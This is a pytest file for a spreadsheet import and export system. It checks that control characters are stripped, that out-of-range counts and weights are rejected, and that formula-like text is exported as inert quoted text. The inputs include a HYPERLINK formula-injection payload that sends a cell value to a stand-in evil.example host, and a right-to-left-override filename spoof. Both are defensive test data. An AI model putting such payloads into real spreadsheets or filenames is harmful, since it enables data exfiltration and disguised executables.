"""Values a file could bring in that broke what came after them (a hunt, twelfth session).

- Control characters (an .xls holds them as they are, an .xlsx as `_x0001_`): accepted,
  then every .xlsx and .docx written with them failed (exports, bulletin, notices, the
  annotated problem list), and PostgreSQL refused U+0000 with a DataError out of the import.
- Counts beyond an INTEGER: a DataError on PostgreSQL, an OverflowError on SQLite.
- A master-data text starting with `=` was written back by the master export as a formula.
"""

from __future__ import annotations

import datetime as dt
import io

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from data_model.accounts.permissions import Principal
from data_model.admin.master_workbook import export_workbook, import_workbook
from data_model.ingest.annotate import annotated_workbook
from data_model.ingest.importer import import_file
from data_model.ingest.reader import read_workbook
from data_model.outputs import official_docx
from data_model.outputs.export import export_frame, frame_to_xlsx
from data_model.store.models import Activity
from tests.conftest import ACTIVITY_HEADER, INDICATOR_HEADER, activity_row, make_xls
from tests.ingest.test_sheet_pieces import read
from tests.raw_xlsx import one_sheet_xlsx

ADMIN = Principal("chen", "admin")


def activity(name: str, participants: object = 80, district: str = "福田区") -> list:
    return activity_row(
        date=dt.datetime(2022, 3, 15),
        district=district,
        name=name,
        brand="",
        participants=participants,
    )


@pytest.mark.parametrize("pieces", [False, True])
def test_texts_lose_the_characters_xml_cannot_hold_whole_or_in_pieces(pieces):
    # U+FDD0 is the charts' own mark of a line break (`charts.common.LINE_BREAK`).
    rows = [
        ["名称"],
        ["含控制_x0001_字符"],
        ["换行\n与\t制表"],
        ["\ufffe尾"],
        ["南\ufdd0山\ufdd1区"],
        # A right-to-left override shows what follows it reversed: "惠企政策xslx.exe".
        ["惠企政策\u202eexe.xlsx\u202c宣讲\u2067会\u2069"],
    ]
    sheets, _ = read(one_sheet_xlsx(rows), pieces)
    assert [row[0] for row in sheets[0].rows] == [
        "名称",
        "含控制字符",
        "换行\n与\t制表",
        "尾",
        "南山区",
        "惠企政策exe.xlsx宣讲会",
    ]


def test_an_xls_with_control_characters_is_stored_without_them_and_exports(db_engine):
    data = make_xls({"活动台账": [ACTIVITY_HEADER, activity("惠企\x00政策\x01宣讲会\x1f")]})
    assert read_workbook(data, "a.xls")[0].rows[1][3] == "惠企政策宣讲会"
    report = import_file(db_engine, data, "a.xls")
    assert report.status == "accepted", report.errors
    with db_engine.connect() as conn:
        assert conn.execute(select(Activity.name)).scalar_one() == "惠企政策宣讲会"
        exported = load_workbook(
            io.BytesIO(frame_to_xlsx(export_frame(conn, "activities"), "activities"))
        )
    assert "惠企政策宣讲会" in [c.value for c in next(exported.active.iter_cols(min_col=4))]


def test_a_rejected_xls_with_control_characters_gets_its_annotated_problem_list(db_engine):
    data = make_xls(
        {"活动台账": [ACTIVITY_HEADER, activity("惠企政策\x01宣讲会", district="福天区")]}
    )
    report = import_file(db_engine, data, "a.xls")
    assert report.status == "rejected"
    marked = load_workbook(io.BytesIO(annotated_workbook(data, "a.xls", report)))
    assert marked["活动台账"]["D2"].value == "惠企政策宣讲会"
    assert marked["活动台账"]["B2"].comment is not None


def test_a_count_larger_than_a_column_holds_is_a_problem_on_both_engines(db_engine):
    largest = 2**31 - 1
    data = make_xls(
        {
            "活动台账": [
                ACTIVITY_HEADER,
                activity("甲", participants=largest),
                activity("乙", participants=3e9),
                activity("丙", participants=9.3e18),
            ]
        }
    )
    report = import_file(db_engine, data, "a.xls")
    assert report.status == "rejected"
    assert [(p.row, p.column) for p in report.errors] == [(3, "参与人数"), (4, "参与人数")]
    assert "数量最多为 2,147,483,647" in report.errors[0].message


def test_the_master_export_writes_formula_like_texts_as_text_and_reads_them_back(db_engine):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"看")'
    book = Workbook()
    sheet = book.active
    sheet.title = "品牌"
    sheet.append(["名称", "说明", "别名"])
    sheet.append(["恶意品牌", formula, "@SUM(1+1)"])
    sheet["B2"].data_type = sheet["C2"].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    with db_engine.begin() as conn:
        assert import_workbook(conn, ADMIN, buffer.getvalue(), "m.xlsx").status == "accepted"
    with db_engine.connect() as conn:
        exported = export_workbook(conn, ADMIN, record=False)
    row = next(
        r
        for r in load_workbook(io.BytesIO(exported))["品牌"].iter_rows(min_row=2)
        if r[0].value == "恶意品牌"
    )
    # Text cells with Excel's quote prefix: never run, not even once edited, and as written.
    assert [(c.value, c.data_type, c.quotePrefix) for c in row[1:3]] == [
        (formula, "s", True),
        ("@SUM(1+1)", "s", True),
    ]
    with db_engine.begin() as conn:  # the round trip changes nothing
        again = import_workbook(conn, ADMIN, exported, "master.xlsx")
        assert (again.status, again.rows_replaced) == ("unchanged", 0)


def test_a_weight_beyond_its_range_is_a_problem(db_engine):
    rows = [
        INDICATOR_HEADER,
        ["W1", "甲", "发展质量", "亿元", "正向", 1e308, None, "年", "求和"],
        ["W2", "乙", "发展质量", "亿元", "正向", -1, None, "年", "求和"],
        ["W3", "丙", "发展质量", "亿元", "正向", 10_000, None, "年", "求和"],
        ["W4", "丁", "发展质量", "亿元", "正向", 0, None, "年", "求和"],
    ]
    report = import_file(db_engine, make_xls({"指标体系": rows}), "i.xls")
    assert [(p.row, p.column) for p in report.errors] == [(2, "权重"), (3, "权重")]
    assert "应为 0 到 10,000 之间的数" in report.errors[1].message


def test_control_characters_stored_before_the_reader_dropped_them_still_export(db_engine):
    data = make_xls({"活动台账": [ACTIVITY_HEADER, activity("惠企政策宣讲会")]})
    assert import_file(db_engine, data, "a.xls").status == "accepted"
    with db_engine.begin() as conn:  # as an older version stored it
        conn.execute(update(Activity).values(name="惠企\x01政策宣讲会"))
    with db_engine.connect() as conn:
        exported = load_workbook(
            io.BytesIO(frame_to_xlsx(export_frame(conn, "activities"), "activities"))
        )
    assert "惠企政策宣讲会" in [c.value for c in next(exported.active.iter_cols(min_col=4))]


def test_a_word_document_drops_the_characters_xml_cannot_hold():
    document = official_docx.new_document("简报", "市工商联")
    official_docx.heading(document, "营商\x01环境", 1)
    official_docx.paragraph(document, "任务\x00内容")
    official_docx.table(document, [official_docx.Column("任务", 1, "left")], [["进展\x1f情况"]])
    buffer = io.BytesIO()
    document.save(buffer)
    texts = [p.text for p in Document(buffer).paragraphs]
    assert "营商环境" in texts and "任务内容" in texts
    assert Document(buffer).tables[0].cell(1, 0).text == "进展情况"
